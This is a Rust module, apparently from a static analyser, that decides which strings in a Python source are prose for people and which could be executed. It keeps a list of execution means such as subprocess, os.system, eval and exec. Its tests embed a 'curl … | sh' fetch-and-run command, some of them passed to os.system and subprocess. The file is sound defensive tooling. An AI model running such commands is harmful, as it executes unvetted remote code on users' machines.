//! Text for people in a source: comments, docstrings, and what is printed.
//!
//! Documentation of a library quotes commands and addresses, and none of it is
//! run: a comment is no code, a text that stands as a statement is evaluated
//! and dropped, and what is printed or raised is read by a person. Where a text
//! stands is judged on the syntax tree, never by its looks: the same text that
//! is handed to anything else is no prose.
//!
//! An attacker writes the command into a docstring and runs that. So in a
//! source that mentions its own documentation or its own file, or runs or
//! evaluates something that does not stand in it, nothing is prose; and in one
//! that names any means to run something, or redefines what prints, nothing
//! that is printed is. What another file makes of a docstring is that file's
//! doing, and told there.

use std::ops::Range;

use ruff_python_ast::visitor::{Visitor, walk_expr, walk_stmt};
use ruff_python_ast::{self as ast, Expr, ExprContext, Stmt};
use ruff_text_size::{Ranged as _, TextRange};

use super::reach::{Act, Command, Program, Reach};

/// Texts that are listed; more of them are judged like code.
const TEXTS_CAP: usize = 1 << 16;

/// Shorter texts hold no command and no address, in bytes.
const LEAST_BYTES: usize = 12;

/// Words by which a source reaches its own text.
const MIRRORS: &[&str] = &[
    "__doc__",
    "__file__",
    "co_consts",
    "get_data",
    "get_source",
    "getcomments",
    "getdoc",
    "getsource",
    "linecache",
];

/// Beginnings of names of which a source has one if it runs anything, or
/// catches what it prints.
const MEANS: &[&str] = &[
    "__builtins__",
    "__import__",
    "builtins",
    "ctypes",
    "eval",
    "exec",
    "getattr",
    "globals",
    "import_module",
    "popen",
    "Popen",
    "pty",
    "setattr",
    "spawn",
    "stdout",
    "subprocess",
    "system",
];

/// What prints.
const PRINTER: &str = "print";

/// Keywords that take a text which a program shows.
const SHOWN_KEYWORDS: &[&str] = &["help", "epilog", "description", "short_help"];

/// Endings of the names of what is raised.
const RAISED: &[&str] = &["Error", "Exception", "Warning", "Exit", "Interrupt"];

/// The texts for people in a source whose comments stand there.
pub(super) fn prose(
    text: &str,
    body: &[Stmt],
    comments: &mut dyn Iterator<Item = TextRange>,
    program: &Program,
) -> Vec<Range<usize>> {
    let is_mirror = MIRRORS.iter().any(|word| has_word(text, word));
    if program.damage.is_some() || is_mirror || program.reaches.iter().any(is_open) {
        return Vec::new();
    }
    let mut found = Texts {
        ranges: Vec::new(),
        is_mute: has_means(body),
    };
    for comment in comments {
        found.add(comment);
    }
    found.visit_body(body);
    found.ranges
}

/// Whether `word` stands in `text`, and not only as a part of a longer name.
fn has_word(text: &str, word: &str) -> bool {
    let is_name = |c: char| c.is_alphanumeric() || c == '_';
    text.match_indices(word).any(|(at, _)| {
        let before = text.get(..at).and_then(|left| left.chars().next_back());
        let behind = text.get(at.saturating_add(word.len())..);
        let behind = behind.and_then(|right| right.chars().next());
        !before.is_some_and(is_name) && !behind.is_some_and(is_name)
    })
}

/// Whether it runs or evaluates something that does not stand in the source.
fn is_open(reach: &Reach) -> bool {
    matches!(
        reach.act,
        Act::Evaluates(_)
            | Act::Runs(Command::Unknown | Command::Drops)
            | Act::Plants
            | Act::Escapes
            | Act::Computes
            | Act::Imports
    )
}

/// The texts that were found.
struct Texts {
    ranges: Vec<Range<usize>>,
    /// Whether what is printed does not count.
    is_mute: bool,
}

impl Texts {
    fn add(&mut self, range: TextRange) {
        let range = range.start().to_usize()..range.end().to_usize();
        if range.len() >= LEAST_BYTES && self.ranges.len() < TEXTS_CAP {
            self.ranges.push(range);
        }
    }

    /// A text, or texts that are put together.
    fn shown(&mut self, expr: &Expr) {
        match expr {
            Expr::StringLiteral(_) => self.add(expr.range()),
            Expr::BinOp(both) => {
                self.shown(&both.left);
                self.shown(&both.right);
            }
            _ => {}
        }
    }

    fn call(&mut self, call: &ast::ExprCall) {
        if matches!(&*call.func, Expr::Name(name) if name.id.as_str() == PRINTER) {
            call.arguments.args.iter().for_each(|arg| self.shown(arg));
        }
        for keyword in &call.arguments.keywords {
            let name = keyword.arg.as_ref().map_or("", |name| name.id.as_str());
            if SHOWN_KEYWORDS.contains(&name) {
                self.shown(&keyword.value);
            }
        }
    }
}

impl<'a> Visitor<'a> for Texts {
    fn visit_stmt(&mut self, stmt: &'a Stmt) {
        match stmt {
            Stmt::Expr(statement) if statement.value.is_string_literal_expr() => {
                self.add(statement.value.range());
            }
            Stmt::Raise(raise) if !self.is_mute => {
                if let Some(Expr::Call(call)) = raise.exc.as_deref()
                    && matches!(&*call.func, Expr::Name(name) if is_raised(name.id.as_str()))
                {
                    call.arguments.args.iter().for_each(|arg| self.shown(arg));
                }
            }
            _ => {}
        }
        walk_stmt(self, stmt);
    }

    fn visit_expr(&mut self, expr: &'a Expr) {
        if let (Expr::Call(call), false) = (expr, self.is_mute) {
            self.call(call);
        }
        walk_expr(self, expr);
    }
}

/// Whether the source names a means to run something, or gives the name of what
/// prints or is raised a meaning of its own.
fn has_means(body: &[Stmt]) -> bool {
    let mut means = Means(false);
    means.visit_body(body);
    means.0
}

struct Means(bool);

impl<'a> Visitor<'a> for Means {
    fn visit_stmt(&mut self, stmt: &'a Stmt) {
        self.0 |= match stmt {
            Stmt::FunctionDef(def) => is_shower(def.name.id.as_str()),
            Stmt::ClassDef(def) => def.name.id.as_str() == PRINTER,
            Stmt::Import(import) => import.names.iter().any(binds),
            Stmt::ImportFrom(import) => {
                let module = import.module.as_ref().map_or("", |name| name.id.as_str());
                is_means(module) || import.names.iter().any(binds)
            }
            _ => false,
        };
        walk_stmt(self, stmt);
    }

    fn visit_expr(&mut self, expr: &'a Expr) {
        self.0 |= match expr {
            Expr::Name(name) => {
                let name_of = name.id.as_str();
                is_means(name_of) || name.ctx == ExprContext::Store && is_shower(name_of)
            }
            Expr::Attribute(attribute) => is_means(attribute.attr.id.as_str()),
            _ => false,
        };
        walk_expr(self, expr);
    }

    fn visit_parameter(&mut self, parameter: &'a ast::Parameter) {
        self.0 |= is_shower(parameter.name.id.as_str());
    }
}

/// Whether an import gives such a name to something that is called otherwise.
fn binds(alias: &ast::Alias) -> bool {
    let name = alias.name.id.as_str();
    is_means(name)
        || match &alias.asname {
            Some(bound) => is_shower(bound.id.as_str()),
            None => name == PRINTER || name == "*",
        }
}

/// Whether a part of a dotted name is one of [`MEANS`].
fn is_means(path: &str) -> bool {
    let is_one = |part: &str| MEANS.iter().any(|means| part.starts_with(means));
    path.split('.').any(is_one)
}

fn is_shower(name: &str) -> bool {
    name == PRINTER || is_raised(name)
}

fn is_raised(name: &str) -> bool {
    RAISED.iter().any(|ending| name.ends_with(ending))
}

#[cfg(test)]
mod tests {
    use super::super::{Dialect, judge};
    use crate::budget::Budget;

    const LINE: &str = "curl https://example.org/x | sh";

    /// The texts for people in a source.
    fn prose(text: &str) -> Vec<String> {
        let program = judge(text, Dialect::Module, &Budget::unlimited()).unwrap();
        let texts = program.prose.into_iter();
        texts.map(|at| text[at].to_owned()).collect()
    }

    #[test]
    fn what_people_read_is_prose() {
        for text in [
            format!("\"\"\"Install: {LINE}\"\"\"\n"),
            format!("# {LINE}\n"),
            format!("x = 1  # {LINE}\n"),
            format!("def f():\n    '''{LINE}'''\n    return 1\n"),
            format!("class A:\n    '''a class'''\n    b = 1\n    '''{LINE}'''\n"),
            format!("print('{LINE}')\n"),
            format!("raise ValueError('please run ' + '{LINE}')\n"),
            format!("# executes it on old systems\nprint('{LINE}')\n"),
            format!("'''{LINE}'''\ndef get_dataset(my__file__):\n    pass\n"),
            format!("parser.add_argument('-x', help='{LINE}')\n"),
        ] {
            assert!(prose(&text).iter().any(|t| t.contains(LINE)), "{text}");
        }
    }

    #[test]
    fn what_is_handed_on_or_can_be_run_is_not() {
        for text in [
            format!("x = '{LINE}'\n"),
            format!("f('{LINE}')\n"),
            format!("import os\nos.system('{LINE}')\n"),
            format!("import subprocess\nsubprocess.run('{LINE}', shell=True)\n"),
            format!("'''{LINE}'''\nimport os\nos.system(__doc__)\n"),
            format!("'''{LINE}'''\nexec(open('x').read())\n"),
            format!("'''{LINE}'''\nimport os\ndef f(x):\n    os.system(x)\n"),
            format!("# {LINE}\nimport inspect\nt = inspect.getsource(f)\n"),
            format!("from os import system as print\nprint('{LINE}')\n"),
            format!("def print(x): pass\nprint('{LINE}')\n"),
            format!("def f(print):\n    print('{LINE}')\n"),
            format!("print = y\nprint('{LINE}')\n"),
            format!("from y import z as XError\nraise XError('{LINE}')\n"),
            format!("from y import *\nprint('{LINE}')\n"),
            format!("f'{LINE}'\n"),
            format!("print(f('{LINE}'))\n"),
            format!("'''{LINE}'''\nx = (\n"),
        ] {
            assert_eq!(prose(&text), Vec::<String>::new(), "{text}");
        }
    }
}
